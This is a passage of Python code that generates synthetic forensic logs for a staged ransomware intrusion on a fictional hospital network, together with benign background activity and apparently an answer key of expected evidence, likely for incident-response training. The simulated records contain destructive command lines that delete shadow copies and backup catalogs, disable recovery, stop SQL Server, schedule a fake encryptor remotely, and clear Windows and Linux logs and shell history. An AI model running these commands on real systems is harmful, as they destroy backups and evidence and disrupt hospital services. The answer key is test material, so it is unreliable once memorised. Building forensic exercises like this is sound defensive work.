            keywords=0x8080000000000000,
            process_id=684,
            thread_id=2212,
            user_id="S-1-5-18",
        )
    c.evidence(
        source="evtx",
        host=list(TARGETS),
        channel=CH["sysmon"],
        event_id=1,
        field="CommandLine",
        contains="net  stop MSSQLSERVER /y",
    )
    c.evidence(source="evtx", host=list(TARGETS), channel="System", event_id=7036, contains="stopped")
    c.evidence(source="evtx", host=list(TARGETS), channel="System", event_id=7040, contains="disabled")

    begin(c, 16)
    for k, host in enumerate(TARGETS):
        t = ist(23, "06:05:03") + timedelta(seconds=k * 4)
        for dt, image, line in (
            (0, "C:\\Windows\\System32\\vssadmin.exe", "vssadmin  delete shadows /all /quiet"),
            (5, "C:\\Windows\\System32\\wbem\\WMIC.exe", "wmic  shadowcopy delete"),
            (9, "C:\\Windows\\System32\\bcdedit.exe", "bcdedit  /set {default} recoveryenabled No"),
            (12, "C:\\Windows\\System32\\wbadmin.exe", "wbadmin  delete catalog -quiet"),
        ):
            c.proc(host, t + timedelta(seconds=dt), image, line, sysu, services[host])
    c.evidence(
        source="evtx",
        host=list(TARGETS),
        channel=CH["sysmon"],
        event_id=1,
        field="CommandLine",
        contains="vssadmin  delete shadows /all /quiet",
    )
    c.evidence(
        source="evtx",
        host=list(TARGETS),
        channel="Security",
        event_id=4688,
        field="CommandLine",
        contains="wbadmin  delete catalog -quiet",
    )
    c.evidence(
        source="evtx",
        host=list(TARGETS),
        channel=CH["sysmon"],
        event_id=1,
        field="CommandLine",
        contains="recoveryenabled No",
    )

    begin(c, 17)
    task_name = "\\Microsoft\\Windows\\EdgeUpdateCore"
    action = "C:\\Windows\\Temp\\svchosts.exe -p C:\\,D:\\ -n README_TO_DECRYPT.txt"
    engines: dict[str, Proc] = {}
    for k, host in enumerate(TARGETS):
        t = ist(23, "06:08:02") + timedelta(seconds=k * 6)
        c.proc(
            DC01,
            t,
            "C:\\Windows\\System32\\schtasks.exe",
            f'schtasks  /create /s {host} /ru SYSTEM /tn "{task_name}" /tr "{action}" /sc once /st 06:10 /f',
            user,
            dc_cmd,
        )
        content = (
            '<?xml version="1.0" encoding="UTF-16"?>\n<Task version="1.2" '
            'xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">\n  <RegistrationInfo>\n'
            f"    <Author>{NETBIOS}\\adm.sharma</Author>\n    <URI>{task_name}</URI>\n  </RegistrationInfo>\n"
            "  <Triggers>\n    <TimeTrigger>\n      <StartBoundary>2022-11-23T06:10:00</StartBoundary>\n"
            "      <Enabled>true</Enabled>\n    </TimeTrigger>\n  </Triggers>\n  <Principals>\n"
            '    <Principal id="Author">\n      <UserId>S-1-5-18</UserId>\n      <RunLevel>HighestAvailable</RunLevel>'
            '\n    </Principal>\n  </Principals>\n  <Actions Context="Author">\n    <Exec>\n'
            "      <Command>C:\\Windows\\Temp\\svchosts.exe</Command>\n"
            "      <Arguments>-p C:\\,D:\\ -n README_TO_DECRYPT.txt</Arguments>\n    </Exec>\n  </Actions>\n</Task>"
        )
        c.add(
            host,
            "sec",
            4698,
            t + timedelta(milliseconds=800),
            {
                "SubjectUserSid": sid("adm.sharma"),
                "SubjectUserName": "adm.sharma",
                "SubjectDomainName": NETBIOS,
                "SubjectLogonId": c.logon_id(),
                "TaskName": task_name,
                "TaskContent": content,
                "ClientProcessStartKey": "0",
                "ClientProcessId": "0",
                "ParentProcessId": "0",
                "RpcCallClientLocality": "0",
                "FQDN": fqdn(DC01),
            },
            task=12804,
            keywords=0x8020000000000000,
        )
        c.add(
            host,
            "task",
            106,
            t + timedelta(milliseconds=850),
            {"TaskName": task_name, "UserContext": f"{NETBIOS}\\adm.sharma"},
            prov="task",
            task=106,
            keywords=0x8000000000000000,
            process_id=1340,
            thread_id=2200,
            user_id="S-1-5-18",
        )
        run_t = ist(23, "06:10:00") + timedelta(milliseconds=k * 37)
        instance = c.guid()
        c.add(
            host,
            "task",
            129,
            run_t,
            {
                "TaskName": task_name,
                "Path": "C:\\Windows\\Temp\\svchosts.exe",
                "ProcessID": "5520",
                "Priority": "7",
            },
            prov="task",
            task=129,
            keywords=0x8000000000000000,
            process_id=1340,
            thread_id=2200,
            user_id="S-1-5-18",
        )
        c.add(
            host,
            "task",
            200,
            run_t + timedelta(milliseconds=3),
            {
                "TaskName": task_name,
                "ActionName": "C:\\Windows\\Temp\\svchosts.exe",
                "TaskInstanceId": instance,
                "EnginePID": "5520",
            },
            prov="task",
            task=200,
            opcode=1,
            keywords=0x8000000000000000,
            process_id=1340,
            thread_id=2200,
            user_id="S-1-5-18",
        )
        engines[host] = Proc(
            host,
            1340,
            c.guid(),
            "C:\\Windows\\System32\\svchost.exe",
            "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
            sysu,
        )
    c.evidence(
        source="evtx",
        host=DC01,
        channel=CH["sysmon"],
        event_id=1,
        field="CommandLine",
        contains="schtasks  /create /s EHOSP-DB01",
    )
    c.evidence(
        source="evtx",
        host=list(TARGETS),
        channel="Security",
        event_id=4698,
        field="TaskName",
        equals=task_name,
    )
    c.evidence(source="evtx", host=list(TARGETS), channel=CH["task"], event_id=106, contains="EdgeUpdateCore")

    begin(c, 18)
    folders = {
        DB01: ["D:\\MSSQL\\DATA", "D:\\MSSQL\\Backup", "C:\\Users\\Public\\Documents", "D:\\Reports"],
        DB02: ["D:\\MSSQL\\DATA", "D:\\Backup", "C:\\Users\\Public\\Documents", "D:\\Exports"],
        LIS: ["D:\\LIS\\Results", "D:\\LIS\\Instruments", "C:\\Users\\Public\\Documents", "D:\\MSSQL\\DATA"],
    }
    for host in TARGETS:
        t = ist(23, "06:10:01") + timedelta(milliseconds=TARGETS.index(host) * 41)
        enc = c.proc(
            host,
            t,
            "C:\\Windows\\Temp\\svchosts.exe",
            action,
            sysu,
            engines[host],
            hashes=STANDIN_HASHES,
            cwd="C:\\Windows\\system32\\",
        )
        n = 0
        per = max(1, c.opts.encrypt_files // len(folders[host]))
        span = (26 * 60) / (per * len(folders[host]) + len(folders[host]))
        for folder in folders[host]:
            c.file(host, t + timedelta(seconds=1 + n * span), enc, f"{folder}\\{NOTE_NAME}")
            n += 1
            for j in range(per):
                name = _victim_name(folder, j)
                ti = t + timedelta(seconds=1 + n * span)
                c.file(host, ti, enc, f"{folder}\\{name}{LOCK_EXT}", edr_action="FileRenamed", previous=name)
                if j % 5 == 0:
                    c.sysmon(
                        host,
                        23,
                        ti + timedelta(milliseconds=4),
                        {
                            "ProcessGuid": enc.guid,
                            "ProcessId": str(enc.pid),
                            "User": sysu,
                            "Image": enc.image,
                            "TargetFilename": f"{folder}\\{name}",
                            "Hashes": sysmon_hashes(fake_hashes(name)),
                            "IsExecutable": "false",
                            "Archived": "true",
                        },
                    )
                n += 1
    c.evidence(
        source="evtx",
        host=list(TARGETS),
        channel=CH["sysmon"],
        event_id=1,
        field="Hashes",
        contains=STANDIN_SHA256.upper(),
        also="Image C:\\Windows\\Temp\\svchosts.exe",
    )
    c.evidence(
        source="evtx",
        host=list(TARGETS),
        channel=CH["sysmon"],
        event_id=11,
        field="TargetFilename",
        contains=LOCK_EXT,
    )
    c.evidence(
        source="evtx",
        host=list(TARGETS),
        channel=CH["sysmon"],
        event_id=11,
        field="TargetFilename",
        contains=NOTE_NAME,
    )
    c.evidence(source="edr", host=DB01, table="DeviceProcessEvents", field="SHA256", equals=STANDIN_SHA256)


def _victim_name(folder: str, j: int) -> str:
    """A plausible file name for the ``j``-th encrypted file in ``folder``."""
    if "MSSQL\\DATA" in folder:
        stems = (
            "eHospital",
            "eHospital_log",
            "Pharmacy",
            "Billing",
            "LabResults",
            "Radiology",
            "msdb",
            "model",
        )
        return f"{stems[j % len(stems)]}{'' if j < len(stems) else j}.{'ldf' if 'log' in stems[j % len(stems)] else 'mdf'}"
    if "Backup" in folder:
        return f"eHospital_FULL_202211{21 - j % 20:02d}_{j:03d}.bak"
    if "LIS" in folder:
        return f"LR-2022-11-{22 - j % 20:02d}-{j:05d}.hl7"
    return f"report_{j:04d}.{('pdf', 'xlsx', 'docx', 'csv')[j % 4]}"


def step_19_20_21(c: Case, dc_explorer: Proc, ts_explorer: Proc) -> None:
    """Elasticsearch encrypted; logs cleared everywhere; the lab app fails."""
    begin(c, 19)
    t = ist(23, "06:12:04")
    c.audit_exec(
        t,
        ["systemctl", "stop", "elasticsearch"],
        auid=1001,
        uid=0,
        exe="/usr/bin/systemctl",
        cwd="/root",
        ppid=2301,
    )
    c.jentry(
        ES01,
        t + timedelta(milliseconds=40),
        "systemd",
        "Stopping Elasticsearch...",
        unit="elasticsearch.service",
    )
    c.jentry(
        ES01,
        t + timedelta(seconds=3, milliseconds=515),
        "systemd",
        "elasticsearch.service: Deactivated successfully.",
        unit="elasticsearch.service",
    )
    c.jentry(
        ES01,
        t + timedelta(seconds=3, milliseconds=520),
        "systemd",
        "Stopped Elasticsearch.",
        unit="elasticsearch.service",
    )
    c.audit_exec(
        t + timedelta(seconds=20),
        ["/tmp/.x", "-p", "/var/lib/elasticsearch"],
        auid=1001,
        uid=0,
        exe="/tmp/.x",
        cwd="/root",
        ppid=2301,
        creates="/var/lib/elasticsearch/README_TO_DECRYPT.txt",
    )
    c.evidence(source="journal", host=ES01, field="MESSAGE", equals="Stopped Elasticsearch.")
    c.evidence(
        source="audit.log",
        host=ES01,
        type="EXECVE",
        contains="/tmp/.x -p /var/lib/elasticsearch",
        note="a0..a2 quoted; proctitle hex",
    )
    c.evidence(
        source="audit.log", host=ES01, type="PATH", contains="README_TO_DECRYPT.txt", also="nametype=CREATE"
    )

    begin(c, 20)
    clear_at = {
        TS01: ist(23, "06:38:10"),
        DC01: ist(23, "06:38:55"),
        DB01: ist(23, "06:39:30"),
        DB02: ist(23, "06:40:05"),
        LIS: ist(23, "06:40:40"),
    }
    parents = {TS01: ts_explorer, DC01: dc_explorer}
    for host, t in clear_at.items():
        user = f"{NETBIOS}\\adm.sharma" if host in parents else "NT AUTHORITY\\SYSTEM"
        par = parents.get(host) or sys_proc(host)
        for k, (ch, log) in enumerate((("sec", "Security"), ("sys", "System"))):
            tk = t + timedelta(seconds=k * 2)
            c.proc(
                host,
                tk,
                "C:\\Windows\\System32\\wevtutil.exe",
                f"wevtutil.exe  cl {log}",
                user,
                par,
                security=False,
            )
            c.clear_time[(host, ch)] = tk + timedelta(milliseconds=400)
            who = ("adm.sharma", NETBIOS) if host in parents else (f"{host}$", NETBIOS)
            if ch == "sec":
                c.add(
                    host,
                    "sec",
                    1102,
                    tk + timedelta(milliseconds=400),
                    prov="eventlog",
                    user_data=(
                        "LogFileCleared",
                        {
                            "SubjectUserSid": sid(who[0]) if host in parents else "S-1-5-18",
                            "SubjectUserName": who[0],
                            "SubjectDomainName": who[1],
                            "SubjectLogonId": c.logon_id(),
                        },
                    ),
                    task=104,
                    keywords=0x4020000000000000,
                    process_id=1264,
                    thread_id=3012,
                )
            else:
                c.add(
                    host,
                    "sys",
                    104,
                    tk + timedelta(milliseconds=400),
                    prov="eventlog",
                    user_data=(
                        "LogFileCleared",
                        {
                            "SubjectUserName": who[0],
                            "SubjectDomainName": who[1],
                            "Channel": "System",
                            "BackupPath": None,
                        },
                    ),
                    task=104,
                    keywords=0x8000000000000000,
                    process_id=1264,
                    thread_id=3012,
                    user_id="S-1-5-18",
                )
    t = ist(23, "06:40:51")
    c.audit_exec(
        t,
        ["bash", "-c", "truncate -s 0 /var/log/auth.log; history -c; rm -f /root/.bash_history"],
        auid=1001,
        uid=0,
        exe="/usr/bin/bash",
        cwd="/root",
        ppid=2301,
    )
    c.audit_exec(
        t + timedelta(milliseconds=3),
        ["truncate", "-s", "0", "/var/log/auth.log"],
        auid=1001,
        uid=0,
        exe="/usr/bin/truncate",
        cwd="/root",
        ppid=2301,
    )
    c.clear_time[(ES01, "auth")] = t + timedelta(milliseconds=4)
    c.evidence(
        source="evtx",
        host=list(WIN_HOSTS),
        channel=CH["sysmon"],
        event_id=1,
        field="CommandLine",
        contains="wevtutil.exe  cl Security",
    )
    c.evidence(source="evtx", host=list(WIN_HOSTS), channel="Security", event_id=1102)
    c.evidence(source="evtx", host=list(WIN_HOSTS), channel="System", event_id=104)
    c.evidence(
        source="audit.log",
        host=ES01,
        type="EXECVE",
        contains="history -c",
        also="auth.log holds nothing between 06:25 (rotation) and the truncation",
    )

    begin(c, 21)
    for i in range(11):
        t = ist(23, "06:30:12") + timedelta(minutes=3 * i)
        c.add(
            LIS,
            "app",
            3001,
            t,
            {
                "Data": (
                    "LabConnect: result upload failed for batch LR-2022-11-23-"
                    f"{i:04d}: cannot connect to SQL Server EHOSP-DB01 (10.10.2.11,1433). A network-related or "
                    "instance-specific error occurred while establishing a connection to SQL Server."
                )
            },
            prov="lab",
            level=2,
            qualifiers=0,
            keywords=0x80000000000000,
        )
    c.evidence(
        source="evtx", host=LIS, channel="Application", event_id=3001, contains="cannot connect to SQL"
    )
    end(c)


# --- benign background ----------------------------------------------------------------------


def benign(c: Case) -> None:
    """Everyday activity that must not raise high-severity findings."""
    end(c)
    for day in background_days(c.opts):
        _benign_day(c, day)
    _benign_day(c, 23, until="09:10:00")


def background_days(opts: Options) -> list[int]:
    """November day numbers of benign background, oldest first (can go below 1 in large mode)."""
    return [22 - d for d in range(opts.days - 1, -1, -1)]


def _day(day: int, hms: str) -> datetime:
    """``ist`` that also accepts day numbers before November 1 (large mode)."""
    return ist(1, hms) + timedelta(days=day - 1)


def _benign_day(c: Case, day: int, until: str = "23:59:59") -> None:
    limit = _day(day, until)

    def ok(t: datetime) -> bool:
        return t <= limit

    windows_background(c, day, WIN_HOSTS, limit)
    _site_background(c, day, ok)


def windows_background(c: Case, day: int, hosts: tuple[str, ...], limit: datetime) -> None:
    """Service logons, machine logons at DC01, routine processes and Defender updates."""

    def ok(t: datetime) -> bool:
        return t <= limit

    for host in hosts:
        for slot in range(0, 24 * 60, 60):
            t = _day(day, f"{slot // 60:02d}:{slot % 60:02d}:{c.rng.randrange(0, 59):02d}")
            if not ok(t):
                break
            c.logon(host, t, "SYSTEM", 5, "-", domain="NT AUTHORITY", auth="Negotiate")
            if host in IP and host != DC01:
                # the machine's periodic Kerberos / SMB exchange with DC01: pairs across LIS's skew
                if host == LIS:
                    c.explicit_creds(
                        host,
                        t + timedelta(seconds=7),
                        f"{host}$",
                        f"{host}$",
                        fqdn(DC01),
                        IP[DC01],
                        "C:\\Windows\\System32\\svchost.exe",
                    )
                c.kerberos_ticket(
                    t + timedelta(seconds=7, milliseconds=20),
                    f"{host}$",
                    f"cifs/{fqdn(DC01)}",
                    IP.get(host, "10.10.9.99"),
                )
                c.logon(
                    DC01,
                    t + timedelta(seconds=7, milliseconds=40),
                    f"{host}$",
                    3,
                    IP.get(host, "10.10.9.99"),
                )
            if slot % 120 == 0:
                svc = sys_proc(host)
                c.proc(
                    host,
                    t + timedelta(seconds=20),
                    "C:\\Windows\\System32\\taskhostw.exe",
                    "taskhostw.exe Install $(Arg0)",
                    "NT AUTHORITY\\SYSTEM",
                    svc,
                )
                c.proc(
                    host,
                    t + timedelta(seconds=40),
                    "C:\\Windows\\System32\\svchost.exe",
                    "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s BITS",
                    "NT AUTHORITY\\SYSTEM",
                    svc,
                )
            if c.opts.large:
                # more routine volume per slot for benchmark cases
                svc = sys_proc(host)
                for k in range(8):
                    tk = t + timedelta(seconds=60 + k * 90)
                    if not ok(tk):
                        break
                    p = c.proc(
                        host,
                        tk,
                        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
                        f"chrome.exe --type=renderer --field-trial-handle={k}",
                        f"{NETBIOS}\\user{k}",
                        svc,
                        integrity="Medium",
                        security=False,
                    )
                    c.net(host, tk + timedelta(milliseconds=50), p, "10.10.1.53", 53)
                    c.file(
                        host,
                        tk + timedelta(milliseconds=80),
                        p,
                        f"C:\\Users\\user{k}\\AppData\\Local\\Temp\\chrome_{c.rng.randrange(10**6)}.tmp",
                    )
        # Defender signature updates, three a day
        for hms in ("03:12:40", "11:12:40", "19:12:40"):
            t = _day(day, hms)
            if ok(t) and not (day == 23 and hms != "03:12:40"):
                c.add(
                    host,
                    "def",
                    2000,
                    t,
                    {
                        "Product Name": "Microsoft Defender Antivirus",
                        "Product Version": "4.18.2210.6",
                        "Current security intelligence Version": f"1.379.{(day % 30) * 3 + int(hms[:2]) // 8}.0",
                        "Previous security intelligence Version": f"1.379.{(day % 30) * 3 + int(hms[:2]) // 8 - 1}.0",
                        "Security intelligence Type": "%%800",
                        "Update Type": "%%804",
                    },
                    prov="def",
                    process_id=3140,
                    thread_id=5504,
                    user_id="S-1-5-18",
                )


def _site_background(c: Case, day: int, ok: Callable[[datetime], bool]) -> None:
    """The named hosts' routine: time-service warnings, admin RDP, backups, cron, SSH."""
    # LIS-APP01's time service complains (a hint at the skew).
    t = _day(day, "08:00:00")
    if ok(t):
        c.add(
            LIS,
            "sys",
            36,
            t,
            {"Data": "86400"},
            prov="time",
            level=3,
            keywords=0x8000000000000000,
            process_id=1480,
            thread_id=1512,
            user_id="S-1-5-19",
        )
    # Admin RDP from the IT subnet (10.10.9.0/24).
    for host, user, ip, start, stop, sess in (
        (TS01, "it.rao", "10.10.9.15", "10:05:12", "10:48:30", 2),
        (TS01, "adm.sharma", "10.10.9.21", "15:20:44", "16:02:10", 4),
        (DC01, "adm.sharma", "10.10.9.21", "15:31:05", "15:44:50", 3),
    ):
        t = _day(day, start)
        if not ok(t):
            continue
        c.rdp(host, t, user, ip, admin=user.startswith("adm"), session=sess)
        c.rdp_end(host, _day(day, stop), user, ip, sess)
    # Nightly SQL backups on the DB servers (01:00) with a legitimate shadow listing.
    for host in (DB01, DB02):
        t = _day(day, "01:00:03")
        if not ok(t):
            continue
        eng = Proc(
            host,
            1340,
            c.guid(),
            "C:\\Windows\\System32\\svchost.exe",
            "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
            "NT AUTHORITY\\SYSTEM",
        )
        c.add(
            host,
            "task",
            200,
            t,
            {
                "TaskName": "\\DIMS\\NightlyBackup",
                "ActionName": "C:\\Scripts\\backup.cmd",
                "TaskInstanceId": c.guid(),
                "EnginePID": "4312",
            },
            prov="task",
            task=200,
            opcode=1,
            process_id=1340,
            thread_id=2200,
            user_id="S-1-5-18",
        )
        sh = c.proc(
            host,
            t + timedelta(seconds=1),
            "C:\\Windows\\System32\\cmd.exe",
            'C:\\Windows\\system32\\cmd.exe /c "C:\\Scripts\\backup.cmd"',
            f"{NETBIOS}\\svc.backup",
            eng,
        )
        c.proc(
            host,
            t + timedelta(seconds=3),
            "C:\\Windows\\System32\\vssadmin.exe",
            "vssadmin  list shadows",
            f"{NETBIOS}\\svc.backup",
            sh,
        )
        c.proc(
            host,
            t + timedelta(seconds=5),
            "C:\\Program Files\\Microsoft SQL Server\\Client SDK\\ODBC\\170\\Tools\\Binn\\SQLCMD.EXE",
            "sqlcmd  -S . -E -Q \"BACKUP DATABASE eHospital TO DISK='D:\\Backup\\"
            f"eHospital_FULL_202211{day:02d}.bak' WITH COMPRESSION\"",
            f"{NETBIOS}\\svc.backup",
            sh,
        )
        c.add(
            host,
            "app",
            18264,
            t + timedelta(minutes=11, seconds=7),
            {
                "Data": (
                    f"Database backed up. Database: eHospital, creation date(time): 2019/04/02(11:20:31), pages dumped: "
                    f"1830311, first LSN: 91211:4410:1, last LSN: 91211:4460:1, number of dump devices: 1, device "
                    f"information: (FILE=1, TYPE=DISK: {{'D:\\Backup\\eHospital_FULL_202211{day:02d}.bak'}})."
                )
            },
            prov="mssql",
            qualifiers=16384,
            keywords=0x80000000000000,
        )
        c.add(
            host,
            "task",
            201,
            t + timedelta(minutes=11, seconds=9),
            {
                "TaskName": "\\DIMS\\NightlyBackup",
                "TaskInstanceId": c.guid(),
                "ActionName": "C:\\Scripts\\backup.cmd",
                "ResultCode": "0",
                "EnginePID": "4312",
            },
            prov="task",
            task=201,
            opcode=2,
            process_id=1340,
            thread_id=2200,
            user_id="S-1-5-18",
        )
    # Linux: cron hourly, the nightly backup pull, and admins' SSH logins.
    for host in (ES01, BKP01):
        for hour in range(24):
            t = _day(day, f"{hour:02d}:17:01")
            if not ok(t):
                break
            pid = 10000 + day * 100 + hour
            c.authlog(
                host,
                t,
                f"CRON[{pid}]",
                "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
            )
            c.authlog(
                host,
                t + timedelta(milliseconds=90),
                f"CRON[{pid}]",
                "pam_unix(cron:session): session closed for user root",
            )
        t = _day(day, "01:30:01")
        if ok(t) and host == BKP01:
            pid = 20000 + day
            c.authlog(
                BKP01,
                t,
                f"CRON[{pid}]",
                "pam_unix(cron:session): session opened for user backup(uid=34) by (uid=0)",
            )
            c.jentry(
                BKP01,
                t + timedelta(milliseconds=5),
                "CRON",
                "(backup) CMD (/opt/dims-backup/nightly.sh)",
                pid=str(pid),
                facility="9",
            )
            c.jentry(
                BKP01,
                t + timedelta(minutes=52),
                "dims-backup",
                "nightly: pulled 4 sources (EHOSP-DB01, EHOSP-DB02, LIS-APP01, LNX-ES01) 412.7 GiB, ok",
                pid=str(pid + 1),
                facility="1",
            )
            c.authlog(
                BKP01,
                t + timedelta(minutes=52, seconds=1),
                f"CRON[{pid}]",
                "pam_unix(cron:session): session closed for user backup",
            )
        t = _day(day, "11:42:19")
        if ok(t):
            pid = 30000 + day
            c.authlog(
                host,
                t,
                f"sshd[{pid}]",
                "Accepted publickey for it.rao from 10.10.9.15 port 53412 ssh2: "
                "ED25519 SHA256:2c6pXq0h7bq3gWwFfZbq8lYk3pTQ1sYdV1Fv3yJk0XY",
            )
            c.authlog(
                host,
                t + timedelta(milliseconds=20),
                f"sshd[{pid}]",
                "pam_unix(sshd:session): session opened for user it.rao(uid=1002) by (uid=0)",
            )
            c.authlog(
                host,
                t + timedelta(minutes=14),
                f"sshd[{pid}]",
                "pam_unix(sshd:session): session closed for user it.rao",
            )
            n = 20 + day
            c.jentry(
                host,
                t + timedelta(milliseconds=40),
                "systemd",
                f"Started Session {n} of User it.rao.",
                unit=f"session-{n}.scope",
            )
        # cron.daily's logrotate (auth.log itself rotates weekly: on LNX-ES01 that was 23 Nov)
        t = _day(day, "06:25:01")
        if ok(t):
            c.jentry(host, t, "systemd", "Starting Rotate log files...", unit="logrotate.service")
            c.jentry(
                host,
                t + timedelta(milliseconds=310),
                "systemd",
                "logrotate.service: Deactivated successfully.",
                unit="logrotate.service",
            )
            c.jentry(
                host,
                t + timedelta(milliseconds=312),
                "systemd",
                "Finished Rotate log files.",
                unit="logrotate.service",
            )


def firewall_noise(c: Case) -> None:
    """Ordinary outbound web and the IT VPN on the firewall."""
    end(c)
    for day in (22, 23):
        for i in range(0, 24 * 60, 20):
            t = _day(day, f"{i // 60:02d}:{i % 60:02d}:{c.rng.randrange(60):02d}")
            if t > ist(23, "09:10:00"):
                break
            src = ("10.10.9.15", "10.10.9.21", "10.10.1.10", "10.10.2.11")[i // 20 % 4]
            c.fw(
                t,
                f'type="traffic" subtype="forward" level="notice" action="accept" policyid=3 '
                f'policyname="LAN-OUT-WEB" srcip={src} srcport={c.rng.randrange(49700, 64000)} srcintf="lan" '
                f'dstip=198.51.100.{c.rng.choice((80, 81, 90))} dstport=443 dstintf="wan1" '
                f'transip={DIMS_PUBLIC_IP} transport={c.rng.randrange(49700, 64000)} proto=6 service="HTTPS" '
                f"duration={c.rng.randrange(1, 90)} sentbyte={c.rng.randrange(900, 90000)} "
                f"rcvdbyte={c.rng.randrange(2000, 900000)}",
            )


def build(opts: Options) -> Case:
    """Run the whole scenario and the background; everything stays in memory."""
    c = Case(opts)
    benign(c)
    firewall_noise(c)
    explorer = step_1_2(c)
    step_3_to_5(c, explorer)
    dc_explorer = step_6_to_8(c, explorer)
    step_9(c, explorer)
    end(c)
    c.rdp_end(TS01, ist(22, "23:12:40"), "helpdesk01", ATTACKER_IP, 3)
    step_10_to_12(c)
    step_13_to_18(c, dc_explorer)
    step_19_20_21(c, dc_explorer, explorer)
    return c


# --- writing --------------------------------------------------------------------------------


def _log_file(channel: str) -> str:
    return channel.replace("/", "%4")


def windows_logs(c: Case) -> Iterator[tuple[str, str, list[WinEvent], int, list[WinEvent]]]:
    """Per (host, channel key): kept events, first record id, and the events the clearing removed."""
    for (host, ch), items in sorted(c.win.items()):
        items = sorted(items, key=lambda x: (x[2].ts, x[1]))  # the host's own (skewed) order
        events = [e for _, _, e in items]
        cut = c.clear_time.get((host, ch))
        if cut is None:
            yield host, ch, events, 1, []
            continue
        cut_logged = cut + SKEW.get(host, timedelta(0))
        before = [e for e in events if e.ts < cut_logged]
        after = [e for e in events if e.ts >= cut_logged]
        yield host, ch, after, 1, before


def record_base(host: str, ch: str) -> int:
    """The first record id the host's log had (a stable, host-specific, realistic number)."""
    return 1000 + int(hashlib.sha256(f"{host}/{ch}".encode()).hexdigest()[:5], 16) % 90000


def write_windows(c: Case, out: Path) -> dict[str, int]:
    """EVTX per host and channel (LIS-APP01 as wevtutil XML, DB02's Sysmon as evtx-JSON lines)."""
    counts: dict[str, int] = {}
    forwarded: list[tuple[datetime, WinEvent]] = []
    for host, ch, kept, _first, removed in windows_logs(c):
        base = record_base(host, ch)
        for i, ev in enumerate(removed):
            fwd = _with_record_id(ev, base + i)
            forwarded.append((ev.ts - SKEW.get(host, timedelta(0)), fwd))
        first = 1 if removed else base
        channel = CH[ch]
        if host == LIS:
            path = out / "collection" / host / "wevtutil" / f"{_log_file(channel)}.xml"
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(wevtutil_xml(kept, first), encoding="utf-8", newline="\n")
        elif host == DB02 and ch == "sysmon":
            path = out / "collection" / host / "evtx_dump" / f"{_log_file(channel)}.jsonl"
            path.parent.mkdir(parents=True, exist_ok=True)
            lines = [
                json.dumps(event_json(ev, first + i), ensure_ascii=False, separators=(",", ":"))
                for i, ev in enumerate(kept)
            ]
            path.write_text("\n".join(lines) + "\n", encoding="utf-8", newline="\n")
        else:
            path = (
                out
                / "collection"
                / host
                / "Windows"
                / "System32"
                / "winevt"
                / "Logs"
                / f"{_log_file(channel)}.evtx"
            )
            write_evtx(path, kept, first_record_id=first)
        counts[str(path.relative_to(out))] = len(kept)
    # The WEF collector's copy, taken before the clearing: arrival (true time) order.
    forwarded.sort(key=lambda x: (x[0], x[1].computer, x[1].system_record_id or 0))
    path = out / "collection" / DC01 / "Windows" / "System32" / "winevt" / "Logs" / "ForwardedEvents.evtx"
    write_evtx(path, [e for _, e in forwarded])
    counts[str(path.relative_to(out))] = len(forwarded)
    return counts


def _with_record_id(ev: WinEvent, rid: int) -> WinEvent:
    from dataclasses import replace

    return replace(ev, system_record_id=rid)


def syslog_ts(t: datetime) -> str:
    """RFC 3164 timestamp in IST, without a year: ``Nov 23 02:10:05``."""
    local = t.astimezone(IST)
    return f"{local:%b} {local.day:>2} {local:%H:%M:%S}"


def write_linux(c: Case, out: Path) -> dict[str, int]:
    """auth.log(.1), audit.log, journal export, and a few files of the collected images."""
    counts: dict[str, int] = {}
    rot_es = ist(23, "06:25:01")
    for host in (ES01, BKP01):
        root = out / "collection" / host
        lines = sorted(c.auth[host], key=lambda x: (x[0], x[1]))
        text = [f"{syslog_ts(t)} {host.lower()} {msg}" for t, _, msg in lines]
        if host == ES01:
            cut = c.clear_time[(ES01, "auth")]
            old = [s for (t, _, _), s in zip(lines, text, strict=True) if t < rot_es]
            new = [s for (t, _, _), s in zip(lines, text, strict=True) if t >= cut]
            files = {"var/log/auth.log.1": old, "var/log/auth.log": new}
        else:
            files = {"var/log/auth.log": text}
        for rel, body in files.items():
            _write_lines(root / rel, body)
            counts[f"collection/{host}/{rel}"] = len(body)
        entries = sorted(c.journal[host], key=lambda x: (x[0], x[1]))
        jlines = []
        for n, (t, _, e) in enumerate(entries):
            full = {
                "__CURSOR": f"s={c.boot[host][:16]};i={0x1A000 + n:x};b={c.boot[host]};m={n * 977:x};"
                f"t={int(e['__REALTIME_TIMESTAMP']):x};x={n:x}",
                "__MONOTONIC_TIMESTAMP": str(int((t - ist(20, "08:00:00")).total_seconds() * 1_000_000)),
                **e,
            }
            jlines.append(json.dumps(dict(sorted(full.items())), ensure_ascii=False, separators=(",", ":")))
        _write_lines(root / "journal" / "journalctl-o-json.json", jlines)
        counts[f"collection/{host}/journal/journalctl-o-json.json"] = len(jlines)
        (root / "etc").mkdir(parents=True, exist_ok=True)
        (root / "etc" / "timezone").write_text("Asia/Kolkata\n", encoding="utf-8")
        (root / "etc" / "hostname").write_text(host.lower() + "\n", encoding="utf-8")
    audit = sorted(c.audit, key=lambda x: (x[0], x[1]))
    # auditd.conf name_format = hostname: every record starts with node=<host>
    alines = [f"node={ES01.lower()} {r}" for _, _, recs in audit for r in recs]
    _write_lines(out / "collection" / ES01 / "var" / "log" / "audit" / "audit.log", alines)
    counts[f"collection/{ES01}/var/log/audit/audit.log"] = len(audit)
    note = out / "collection" / ES01 / "var" / "lib" / "elasticsearch" / NOTE_NAME
    note.parent.mkdir(parents=True, exist_ok=True)
    note.write_text(RANSOM_NOTE, encoding="utf-8", newline="\n")
    return counts


def _write_lines(path: Path, lines: list[str]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("".join(s + "\n" for s in lines), encoding="utf-8", newline="\n")


def write_network_edr(c: Case, out: Path) -> dict[str, int]:
    """Perimeter firewall syslog and the Defender for Endpoint export of the DB servers."""
    fw = sorted(c.firewall, key=lambda x: (x[0], x[1]))
    lines = []
    for n, (t, _, body) in enumerate(fw):
        local = t.astimezone(IST)
        stamp = local.strftime("%Y-%m-%dT%H:%M:%S.") + f"{local.microsecond // 1000:03d}+05:30"
        lines.append(
